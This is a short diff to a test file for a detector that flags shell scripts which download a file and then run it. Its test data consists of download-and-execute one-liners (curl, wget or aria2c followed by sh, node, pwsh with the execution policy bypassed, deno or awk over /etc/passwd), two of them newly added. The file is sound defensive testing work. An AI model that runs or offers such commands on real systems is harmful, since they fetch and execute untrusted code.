@@ -32,6 +32,8 @@ describe('fetchedThenRun over a reading', () => {
       ['aria2c -d /tmp -o m http://h/m; timeout 60 /tmp/m', ['aria2c']],
       ['curl -o /tmp/a.js http://h/a.js; node --require dotenv/config /tmp/a.js', ['curl']],
       ['curl -o /tmp/a.ps1 http://h/a.ps1; pwsh -ExecutionPolicy Bypass -File /tmp/a.ps1', ['curl']],
+      ['curl -o /tmp/d.ts http://h/d.ts; deno run --allow-net /tmp/d.ts', ['curl']],
+      ['curl -o /tmp/x http://h/x; awk -f /tmp/x /etc/passwd', ['curl']],
       ['curl -o a http://h/a; wget http://h/b.sh; sh b.sh; ./a', ['wget', 'curl']],
     ];
     for (const [script, tools] of cases) expect(fetched(script), script).toEqual(tools);
